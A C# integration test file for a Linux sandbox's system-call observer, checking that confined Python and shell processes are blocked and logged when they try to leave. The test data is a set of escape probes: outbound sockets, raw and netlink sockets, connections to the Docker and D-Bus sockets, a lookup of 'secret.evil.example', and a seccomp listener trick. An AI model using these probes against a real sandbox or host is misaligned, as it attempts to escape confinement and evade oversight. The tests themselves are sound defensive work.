using System.Runtime.Versioning;
using NUnit.Framework;
using Pantheon.Integration.Tests.Platform.Files;
using Pantheon.Platform.Processes;
using Pantheon.Platform.Sandboxing;
using Pantheon.Platform.Sandboxing.Observing;

namespace Pantheon.Integration.Tests.Platform.Sandboxing.Observing;

[TestFixture]
[SupportedOSPlatform("linux")]
[Parallelizable(ParallelScope.All)]
internal sealed class CallObserverTests
{
    private const string SystemPath = "/usr/local/bin:/usr/bin:/bin";

    // what is tried and what becomes of it: one line an attempt
    private const string Helper = """
        import socket, errno, sys
        def tried(act):
            try: act(); print('open')
            except OSError as error: print(errno.errorcode.get(error.errno, error.errno))

        """;

    private readonly ProcessRunner _runner = new(TimeProvider.System);

    [OneTimeSetUp]
    public async Task Skip_where_nothing_can_be_watched()
    {
        if (CallObserver.WhyNot is { } fault)
        {
            Assert.Ignore(fault);
        }

        if (!File.Exists("/usr/bin/python3"))
        {
            Assert.Ignore("/usr/bin/python3 is not installed");
        }

        var check = await new BubblewrapSandbox(_runner).CheckAsync(CancellationToken.None);
        if (!check.Works)
        {
            Assert.Ignore(check.Reason!);
        }
    }

    [TestCase("connect", "socket.create_connection(('198.51.100.1', 443))", "ENETUNREACH", "198.51.100.1:443 (tcp)")]
    [TestCase("connect", "socket.create_connection(('2001:db8::1', 443))", "ENETUNREACH", "[2001:db8::1]:443 (tcp)")]
    [TestCase("connect", "socket.socket(socket.AF_INET6).connect(('::ffff:198.51.100.1', 80))", "ENETUNREACH", "198.51.100.1:80 (tcp)")]
    [TestCase("connect", "socket.socket(type=socket.SOCK_DGRAM).connect(('198.51.100.1', 123))", "ENETUNREACH", "198.51.100.1:123 (udp)")]
    [TestCase("sendto", "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.1', 53))", "ENETUNREACH", "198.51.100.1:53 (udp)")]
    [TestCase("sendmsg", "socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('198.51.100.1', 53))", "ENETUNREACH", "198.51.100.1:53 (udp)")]
    [TestCase("sendto", "socket.socket().sendto(b'x', 0x20000000, ('198.51.100.1', 443))", "ENETUNREACH", "198.51.100.1:443 (tcp)")]
    [TestCase("socket", "socket.socket(socket.AF_VSOCK)", "EPERM", "AF_VSOCK")]
    [TestCase("socket", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)", "EPERM", "AF_NETLINK")]
    [TestCase("socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "EPERM", "AF_PACKET")]
    [TestCase("socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "EPERM", "AF_INET raw")]
    [TestCase("socket", "socket.socket(77)", "EPERM", "family 77")]
    [TestCase("socketpair", "socket.socketpair(socket.AF_TIPC)", "EPERM", "AF_TIPC")]
    [CancelAfter(30_000)]
    public async Task What_would_lead_out_is_refused_and_recorded(string call, string attempt, string error, string target, CancellationToken cancellationToken)
    {
        var outcome = await PythonAsync($"tried(lambda: {attempt})", cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", $"{error}\n")));
        Assert.That(outcome.Refused, Is.EqualTo([new RefusedCall(call, target, 1)]));
    }

    [TestCase("/run/docker.sock", "ENOENT", "/run/docker.sock (unix)")]
    [TestCase("/var/run/dbus/system_bus_socket", "ENOENT", "/var/run/dbus/system_bus_socket (unix)")]
    [TestCase("\\0of-the-host", "ECONNREFUSED", "@of-the-host (unix)")]
    [CancelAfter(30_000)]
    public async Task A_service_of_the_host_is_not_there_and_the_attempt_is_recorded(string path, string error, string target, CancellationToken cancellationToken)
    {
        var outcome = await PythonAsync($"tried(lambda: socket.socket(socket.AF_UNIX).connect('{path}'))", cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", $"{error}\n")));
        Assert.That(outcome.Refused, Is.EqualTo([new RefusedCall("connect", target, 1)]));
    }

    [TestCase("socket.AF_NETLINK, socket.SOCK_RAW")]
    [TestCase("socket.AF_INET, socket.SOCK_STREAM")]
    [CancelAfter(30_000)]
    public async Task The_same_sockets_can_be_made_outside(string arguments, CancellationToken cancellationToken)
    {
        var outcome = await _runner.RunAsync(Python($"tried(lambda: socket.socket({arguments}))"), cancellationToken);

        Assert.That((outcome.StandardOutput, outcome.Refused), Is.EqualTo(("open\n", Array.Empty<RefusedCall>())));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task A_name_look_up_is_recorded_although_it_only_meets_an_empty_network(CancellationToken cancellationToken)
    {
        var outcome = await RunAsync(Shell("getent hosts secret.evil.example; echo $?"), cancellationToken);

        Assert.That(outcome.StandardOutput, Is.EqualTo("2\n"));
        Assert.That(outcome.Refused, Has.Some.Matches<RefusedCall>(call => call is { Call: "name look-up", Target: "127.0.0.1:53 (udp)", Count: > 0 }));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task A_server_inside_is_reached_and_nothing_is_recorded(CancellationToken cancellationToken)
    {
        var outcome = await PythonAsync(
            """
            import threading
            server = socket.create_server(('localhost', 0))
            client = socket.create_connection(server.getsockname())
            there, _ = server.accept()
            client.sendall(b'a'); print(there.recv(1))
            a, b = socket.socketpair(); a.send(b'b'); print(b.recv(1))
            u = socket.socket(type=socket.SOCK_DGRAM); u.bind(('127.0.0.1', 0)); u.sendto(b'c', u.getsockname()); print(u.recv(1))
            for name in ('/tmp/s', '/run/s', '\\0s'):
                s = socket.socket(socket.AF_UNIX); s.bind(name); s.listen(); c = socket.socket(socket.AF_UNIX); c.connect(name); print('unix')
            """,
            cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", "b'a'\nb'b'\nb'c'\nunix\nunix\nunix\n")));
        Assert.That(outcome.Refused, Is.Empty);
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task The_same_attempt_is_counted_and_too_many_kinds_are_one_number(CancellationToken cancellationToken)
    {
        var outcome = await PythonAsync(
            """
            u = socket.socket(type=socket.SOCK_DGRAM)
            def send(port):
                try: u.sendto(b'x', ('198.51.100.1', port))
                except OSError: pass
            for i in range(3): send(1)
            for port in range(2, 101): send(port)
            """,
            cancellationToken);

        Assert.That(outcome.Refused, Has.Count.EqualTo(65));
        Assert.That(outcome.Refused[0], Is.EqualTo(new RefusedCall("sendto", "198.51.100.1:1 (udp)", 3)));
        Assert.That((outcome.Refused[^1].Call, outcome.Refused[^1].Count), Is.EqualTo(("and more", 36)));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task A_child_gets_no_listener_of_its_own_that_would_answer_instead(CancellationToken cancellationToken)
    {
        // a program that asks its own listener about everything, by seccomp(SET_MODE_FILTER, NEW_LISTENER); without the flag it may be put up
        var outcome = await PythonAsync(
            """
            import ctypes, platform
            libc = ctypes.CDLL(None, use_errno=True)
            number = 317 if platform.machine() == 'x86_64' else 277
            code = (ctypes.c_uint64 * 1)(0x7fff0000 << 32 | 0x06)
            class Program(ctypes.Structure): _fields_ = [('length', ctypes.c_ushort), ('code', ctypes.c_void_p)]
            program = Program(1, ctypes.addressof(code))
            for flags in (8, 0): print(libc.syscall(number, 1, flags, ctypes.byref(program)), ctypes.get_errno())
            """,
            cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", "-1 1\n0 1\n")));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task Without_its_watch_a_child_gets_no_strange_socket_either(CancellationToken cancellationToken)
    {
        using var tree = new TemporaryFolder();
        var spec = new BubblewrapSandbox(_runner).Confine(Python("tried(lambda: socket.socket(socket.AF_VSOCK)); tried(lambda: socket.socket())"), new SandboxProfile { Worktree = tree.Path });

        var outcome = await _runner.RunAsync(spec with { Observer = null }, cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", "ENOSYS\nopen\n")));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task When_the_watch_is_gone_while_the_child_lives_nothing_is_open(CancellationToken cancellationToken)
    {
        var script = "tried(lambda: socket.socket(socket.AF_VSOCK)); tried(lambda: socket.socket().connect(('127.0.0.1', 1))); tried(lambda: socket.socket())";

        var outcome = await _runner.RunAsync(Python(script) with { Observer = new LostWatch() }, cancellationToken);

        Assert.That((outcome.StandardError, outcome.StandardOutput), Is.EqualTo(("", "ENOSYS\nENOSYS\nopen\n")));
    }

    [Test]
    [NonParallelizable]
    [CancelAfter(30_000)]
    public async Task No_other_thread_of_the_worker_is_restricted_and_nothing_is_left_of_a_watch(CancellationToken cancellationToken)
    {
        using var tree = new TemporaryFolder();
        var spec = new BubblewrapSandbox(_runner).Confine(Shell("echo up; exec sleep 30"), new SandboxProfile { Worktree = tree.Path });
        var up = new TaskCompletionSource();
        await using (var child = _runner.Start(spec with { OnStandardOutput = _ => up.TrySetResult() }))
        {
            await up.Task.WaitAsync(cancellationToken);

            Assert.That(RestrictedThreads().Except(["process launch"]), Is.Empty);
            Assert.That(OwnThreads().Select(thread => thread.Name), Has.Some.EqualTo("call watch"));
        }

        Assert.That(RestrictedThreads, Is.Empty.After(5000, 20));
        Assert.That(() => OwnThreads().Select(thread => thread.Name), Has.None.EqualTo("call watch").After(5000, 20));
    }

    private static List<string> RestrictedThreads()
    {
        var own = File.ReadLines("/proc/self/status").First(IsFilters);
        return [.. OwnThreads().Where(thread => thread.Filters != own).Select(thread => thread.Name)];
    }

    private static IEnumerable<(string Name, string Filters)> OwnThreads()
    {
        foreach (var folder in Directory.GetDirectories("/proc/self/task"))
        {
            string[] status;
            try
            {
                status = File.ReadAllLines(Path.Combine(folder, "status"));
            }
            catch (IOException)
            {
                continue; // it has ended
            }

            yield return (status[0]["Name:".Length..].Trim(), status.First(IsFilters));
        }
    }

    private static bool IsFilters(string line) => line.StartsWith("Seccomp_filters:", StringComparison.Ordinal);

    private Task<ProcessOutcome> PythonAsync(string script, CancellationToken cancellationToken) => RunAsync(Python(script), cancellationToken);

    private async Task<ProcessOutcome> RunAsync(ProcessSpec spec, CancellationToken cancellationToken)
    {
        using var tree = new TemporaryFolder();
        return await _runner.RunAsync(new BubblewrapSandbox(_runner).Confine(spec, new SandboxProfile { Worktree = tree.Path }), cancellationToken);
    }

    private static ProcessSpec Python(string script) => new()
    {
        FileName = "/usr/bin/python3",
        Arguments = ["-c", Helper + script],
        Environment = new Dictionary<string, string> { ["PATH"] = SystemPath },
    };

    private static ProcessSpec Shell(string script) => new()
    {
        FileName = "/bin/sh",
        Arguments = ["-c", script],
        Environment = new Dictionary<string, string> { ["PATH"] = SystemPath },
    };
}
